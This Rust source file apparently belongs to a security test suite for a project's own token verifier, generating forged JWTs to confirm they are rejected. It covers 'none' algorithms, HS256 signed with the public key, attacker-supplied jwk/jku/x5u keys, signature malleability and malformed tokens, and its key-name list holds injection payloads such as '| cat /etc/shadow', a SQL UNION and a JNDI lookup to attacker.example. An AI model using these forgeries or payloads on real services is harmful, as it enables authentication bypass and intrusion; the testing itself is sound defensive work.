//! Other algorithms, other keys, keys that a token brings along, and letters that were changed.

use super::{Attack, Ground};
use crate::idp::jws;
use data_encoding::{BASE64, BASE64URL_NOPAD};
use hmac::{Hmac, KeyInit, Mac};
use ring::rand::SystemRandom;
use ring::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, KeyPair};
use serde_json::{Value, json};

pub(super) fn attacks(ground: &Ground) -> Vec<Attack> {
    let mut attacks = Vec::new();
    attacks.extend(algorithms(ground));
    attacks.extend(symmetric(ground));
    attacks.extend(elliptic(ground));
    attacks.extend(names_of_keys(ground));
    attacks.extend(keys_brought_along(ground));
    attacks.extend(what_is_critical(ground));
    attacks.extend(forms(ground));
    attacks
}

fn with_header(ground: &Ground, name: &str, value: Value) -> Value {
    let mut header = ground.header();
    header[name] = value;
    header
}

fn algorithms(ground: &Ground) -> Vec<Attack> {
    let claims = ground.claims().to_string();
    let (_, signature) = ground.token.rsplit_once('.').unwrap();
    let mut attacks = Vec::new();
    for name in [
        "none", "None", "NONE", "nOnE", "", "eddsa", "EdDSA ", "Ed25519", "RS256", "dir",
    ] {
        let header = with_header(ground, "alg", json!(name));
        attacks.push(ground.bearer(
            format!("algorithm `{name}`, signed by our key all the same"),
            ground.signed(&header, &claims),
        ));
    }
    let none = with_header(ground, "alg", json!("none"));
    attacks.push(ground.bearer(
        "algorithm none, without a signature",
        jws(&none, &claims, |_| Vec::new()),
    ));
    let unsigned = jws(&none, &claims, |_| Vec::new());
    attacks.push(ground.bearer(
        "algorithm none, with another token's signature",
        format!("{unsigned}{signature}"),
    ));
    for (name, value) in [
        ("null", Value::Null),
        ("a number", json!(1)),
        ("a list", json!(["EdDSA"])),
    ] {
        let header = with_header(ground, "alg", value);
        attacks.push(ground.bearer(
            format!("the algorithm is {name}"),
            ground.signed(&header, &claims),
        ));
    }
    let mut header = ground.header();
    header.as_object_mut().unwrap().remove("alg");
    attacks.push(ground.bearer("no algorithm", ground.signed(&header, &claims)));
    for (name, kind) in [
        ("JWT", json!("JWT")),
        ("of nothing", Value::Null),
        ("of an ID token", json!("id_token+jwt")),
    ] {
        let header = with_header(ground, "typ", kind);
        attacks.push(ground.bearer(
            format!("signed by us as a type {name}"),
            ground.signed(&header, &claims),
        ));
    }
    attacks
}

// The public key is no secret: whoever takes it for one believes everybody.
fn symmetric(ground: &Ground) -> Vec<Attack> {
    let claims = ground.claims().to_string();
    let x = BASE64URL_NOPAD.encode(ground.ours.public());
    let jwk = ground.ours.jwk().to_string();
    let mut attacks = Vec::new();
    for (name, secret) in [
        ("the public key", ground.ours.public()),
        ("the public key's text", x.as_bytes()),
        ("the public key's JWK", jwk.as_bytes()),
        ("nothing", b"".as_slice()),
        ("the key's name", ground.ours.kid.as_bytes()),
        ("the API key", ground.secret().as_bytes()),
    ] {
        let header = with_header(ground, "alg", json!("HS256"));
        let token = jws(&header, &claims, |message| {
            let code = Hmac::<sha2::Sha256>::new_from_slice(secret).unwrap();
            code.chain_update(message).finalize().into_bytes().to_vec()
        });
        attacks.push(ground.bearer(format!("HS256 with {name}"), token));
    }
    let header = with_header(ground, "alg", json!("HS512"));
    let token = jws(&header, &claims, |message| {
        let code = Hmac::<sha2::Sha512>::new_from_slice(ground.ours.public()).unwrap();
        code.chain_update(message).finalize().into_bytes().to_vec()
    });
    attacks.push(ground.bearer("HS512 with the public key", token));
    attacks
}

fn elliptic(ground: &Ground) -> Vec<Attack> {
    let random = SystemRandom::new();
    let document = EcdsaKeyPair::generate_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &random).unwrap();
    let pair =
        EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, document.as_ref(), &random)
            .unwrap();
    let point = &pair.public_key().as_ref()[1..];
    let jwk = json!({
        "kty": "EC", "crv": "P-256", "x": BASE64URL_NOPAD.encode(&point[..32]), "y": BASE64URL_NOPAD.encode(&point[32..]),
    });
    let claims = ground.claims().to_string();
    let sign = |message: &[u8]| pair.sign(&random, message).unwrap().as_ref().to_vec();
    let mut header = with_header(ground, "alg", json!("ES256"));
    let plain = jws(&header, &claims, sign);
    header["jwk"] = jwk;
    let brought = jws(&header, &claims, sign);
    let psychic = jws(&with_header(ground, "alg", json!("ES256")), &claims, |_| {
        vec![0; 64]
    });
    vec![
        ground.bearer("ES256 with an attacker's key", plain),
        ground.bearer(
            "ES256 with an attacker's key that the token brings",
            brought,
        ),
        ground.bearer("ES256 with the signature of zeros", psychic),
        ground.bearer(
            "EdDSA with the signature of zeros",
            jws(&ground.header(), &claims, |_| vec![0; 64]),
        ),
    ]
}

fn names_of_keys(ground: &Ground) -> Vec<Attack> {
    let claims = ground.claims().to_string();
    let by_attacker = |header: &Value| jws(header, &claims, |message| ground.theirs.sign(message));
    let mut attacks = vec![ground.bearer(
        "an attacker's signature under our key's name",
        by_attacker(&ground.header()),
    )];
    for name in [
        "attacker",
        "",
        "../../../../dev/null",
        "/etc/passwd",
        "' UNION SELECT 'x' --",
        "| cat /etc/shadow",
        "https://attacker.example/key",
        "first",
        "first\u{0}",
        "${jndi:ldap://attacker.example}",
    ] {
        let header = with_header(ground, "kid", json!(name));
        attacks.push(ground.bearer(
            format!("the key is named `{}`", name.escape_debug()),
            by_attacker(&header),
        ));
    }
    let long = with_header(ground, "kid", json!("k".repeat(4000)));
    attacks.push(ground.bearer("the key's name has 4000 letters", by_attacker(&long)));
    for (name, value) in [
        ("a number", json!(0)),
        ("a list", json!([ground.ours.kid])),
        ("an object", json!({})),
    ] {
        let header = with_header(ground, "kid", value);
        attacks.push(ground.bearer(
            format!("the key's name is {name}"),
            ground.signed(&header, &claims),
        ));
    }
    let mut header = ground.header();
    header.as_object_mut().unwrap().remove("kid");
    attacks.push(ground.bearer("our key, unnamed", ground.signed(&header, &claims)));
    attacks
}

// A token may bring a key or say where one is; it is not asked.
fn keys_brought_along(ground: &Ground) -> Vec<Attack> {
    let claims = ground.claims().to_string();
    let mut attacks = Vec::new();
    for (name, member, value) in [
        ("jwk", "jwk", ground.theirs.jwk()),
        ("jku", "jku", json!(ground.jwks_url)),
        ("x5u", "x5u", json!(ground.jwks_url)),
        ("x5c", "x5c", json!([BASE64.encode(ground.theirs.public())])),
        ("x5t", "x5t", json!("c2hvcnQ")),
    ] {
        for kid in [ground.ours.kid.as_str(), "attacker"] {
            let mut header = with_header(ground, member, value.clone());
            header["kid"] = json!(kid);
            let token = jws(&header, &claims, |message| ground.theirs.sign(message));
            let whose = if kid == "attacker" { "its own" } else { "our" };
            attacks.push(ground.bearer(
                format!("brings a key by `{name}`, under {whose} name"),
                token,
            ));
        }
    }
    attacks
}

fn what_is_critical(ground: &Ground) -> Vec<Attack> {
    let claims = ground.claims().to_string();
    let mut attacks = Vec::new();
    for crit in [json!(["exp"]), json!(["attack"]), json!([]), json!("exp")] {
        let header = with_header(ground, "crit", crit.clone());
        attacks.push(ground.bearer(
            format!("critical is {crit}"),
            ground.signed(&header, &claims),
        ));
    }
    let mut header = with_header(ground, "b64", json!(false));
    header["crit"] = json!(["b64"]);
    attacks.push(ground.bearer(
        "the claims are not encoded",
        ground.signed(&header, &claims),
    ));
    attacks
}

fn forms(ground: &Ground) -> Vec<Attack> {
    let token = &ground.token;
    let parts: Vec<&str> = token.split('.').collect();
    let [header, claims, signature] = parts[..] else {
        panic!("a token has three parts")
    };
    let padded = |part: &str| {
        let bytes = BASE64URL_NOPAD.decode(part.as_bytes()).unwrap();
        BASE64.encode(&bytes)
    };
    let spaced = ground.claims().to_string().replace(':', ": ");
    let mut attacks = vec![
        ground.bearer("without its signature", format!("{header}.{claims}")),
        ground.bearer("with an empty signature", format!("{header}.{claims}.")),
        ground.bearer("the signature alone", signature),
        ground.bearer("the header alone", format!("{header}..")),
        ground.bearer("two dots", ".."),
        ground.bearer("with a fourth part", format!("{token}.{signature}")),
        ground.bearer(
            "with five parts, as if it were encrypted",
            format!("{header}..{claims}.{signature}.{signature}"),
        ),
        ground.bearer("cut by one letter", &token[..token.len() - 1]),
        ground.bearer("cut in half", &token[..token.len() / 2]),
        ground.bearer("with a letter more", format!("{token}A")),
        ground.bearer("with a null byte's name behind", format!("{token}%00")),
        ground.bearer("in capitals", token.to_uppercase()),
        ground.bearer(
            "its signature padded",
            format!("{header}.{claims}.{}", padded(signature)),
        ),
        ground.bearer(
            "its header padded",
            format!("{header}=.{claims}.{signature}"),
        ),
        ground.bearer(
            "its claims written anew",
            format!(
                "{header}.{}.{signature}",
                BASE64URL_NOPAD.encode(spaced.as_bytes())
            ),
        ),
        ground.bearer("its signature on a neighbour's claims", {
            let mut other = ground.claims();
            other["tenant_id"] = json!(ground.neighbour);
            format!(
                "{header}.{}.{signature}",
                BASE64URL_NOPAD.encode(other.to_string().as_bytes())
            )
        }),
        ground.bearer("in quotation marks", format!("\"{token}\"")),
        ground.bearer(
            "as a JSON serialisation",
            json!({ "payload": claims, "protected": header, "signature": signature }).to_string(),
        ),
        ground.bearer("under two schemes", format!("Bearer {token}")),
        ground.bearer(
            "too long",
            format!("{header}.{}.{signature}", "A".repeat(8 * 1024)),
        ),
    ];
    let signature_bytes = BASE64URL_NOPAD.decode(signature.as_bytes()).unwrap();
    attacks.push(ground.bearer(
        "its signature twice over",
        format!(
            "{header}.{claims}.{}",
            BASE64URL_NOPAD.encode(&[&signature_bytes[..], &signature_bytes].concat())
        ),
    ));
    // The same signature with the group's order added to its second half: sound to a careless verifier.
    attacks.push(ground.bearer(
        "its signature made another by arithmetic",
        format!(
            "{header}.{claims}.{}",
            BASE64URL_NOPAD.encode(&malleable(&signature_bytes))
        ),
    ));
    for scheme in ["Basic", "Token", "JWT", "DPoP"] {
        attacks.push(Attack {
            header: format!("{scheme} {token}"),
            ..ground.bearer(format!("under the scheme {scheme}"), token)
        });
    }
    attacks.push(Attack {
        header: token.clone(),
        ..ground.bearer("under no scheme", token)
    });
    attacks
}

fn malleable(signature: &[u8]) -> Vec<u8> {
    // The order of the group, the smallest byte first.
    const ORDER: [u8; 32] = [
        0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde,
        0x14, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
    ];
    let mut altered = signature.to_vec();
    let mut carry = 0_u16;
    for (byte, order) in altered[32..].iter_mut().zip(ORDER) {
        let sum = u16::from(*byte) + u16::from(order) + carry;
        *byte = u8::try_from(sum & 0xff).unwrap();
        carry = sum >> 8;
    }
    altered
}

/// The token, with each of its letters changed in turn to the next of the alphabet.
pub(super) fn every_letter_changed(ground: &Ground) -> Vec<String> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let token = ground.token.as_bytes();
    (0..token.len())
        .filter_map(|place| {
            let letter = ALPHABET.iter().position(|letter| *letter == token[place])?;
            let mut changed = token.to_vec();
            changed[place] = ALPHABET[(letter + 1) % ALPHABET.len()];
            Some(String::from_utf8(changed).unwrap())
        })
        .collect()
}
